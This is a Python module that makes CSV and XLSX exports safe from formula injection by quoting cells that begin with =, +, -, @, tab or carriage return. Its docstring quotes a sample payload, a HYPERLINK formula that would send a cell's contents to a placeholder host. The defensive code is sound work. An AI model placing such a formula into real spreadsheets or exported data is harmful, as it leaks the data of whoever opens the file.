"""Spreadsheets (CSV and XLSX) that are safe to open: every export of the system writes through here.

Excel, LibreOffice and WPS read a cell that starts with = + - @ (or a tab or carriage return before
one) as a formula, so text an enterprise typed, say a name `=HYPERLINK("http://x/?"&A1,"Open")`, would
run in the officer's spreadsheet when the export is opened. `spreadsheet_cell` prefixes such text with
a single quote (OWASP's advice for CSV injection); numbers, dates and booleans are left as they are,
so they stay numbers and dates in the sheet.

Write an export with one of the two writers, never with `csv.writer` or openpyxl directly:

    writer = csv_writer(handle)          # handle opened with encoding="utf-8-sig", newline=""
    writer.writerow(["USCC", "name", "fine"])
    writer.writerows((e.uscc, e.name, e.fine) for e in rows)

    writer = XlsxWriter(_("Enterprises"))
    writer.writerow(["USCC", "name", "fine"])
    writer.writerows(...)
    writer.save(response)                # an HttpResponse, a file, or a path

The BOM of "utf-8-sig" lets Excel read the Chinese text of a CSV; the XLSX writer streams rows
(openpyxl's write-only mode), so a large export stays small in memory.
"""

import csv
import datetime

import openpyxl
from django.utils import timezone

# A list page exports what it shows with `?export=csv` or `?export=xlsx` (background.list_export).
EXPORT_PARAMETER = "export"
FORMATS = ("csv", "xlsx")
# What makes a spreadsheet program start a formula (tab and CR hide one behind white space).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def spreadsheet_cell(value):
    """`value` as a cell that cannot start a formula: text that could gets a leading single quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return f"'{value}"
    return value


def spreadsheet_row(row):
    return [spreadsheet_cell(value) for value in row]


class _CsvWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow(spreadsheet_row(row))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(handle, **options):
    """A `csv.writer` on `handle` whose every cell goes through `spreadsheet_cell`."""
    return _CsvWriter(csv.writer(handle, **options))


def _xlsx_value(value):
    # Excel has no time zones: a moment is written as the local time of the system's zone.
    if isinstance(value, datetime.datetime) and timezone.is_aware(value):
        return timezone.localtime(value).replace(tzinfo=None)
    return spreadsheet_cell(value)


class XlsxWriter:
    """A workbook of one sheet, filled row by row like a `csv.writer`, then saved."""

    def __init__(self, title="Sheet"):
        self.workbook = openpyxl.Workbook(write_only=True)
        # Excel refuses sheet names longer than 31 characters.
        self.sheet = self.workbook.create_sheet(str(title)[:31])

    def writerow(self, row):
        self.sheet.append([_xlsx_value(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)

    def save(self, target):
        self.workbook.save(target)
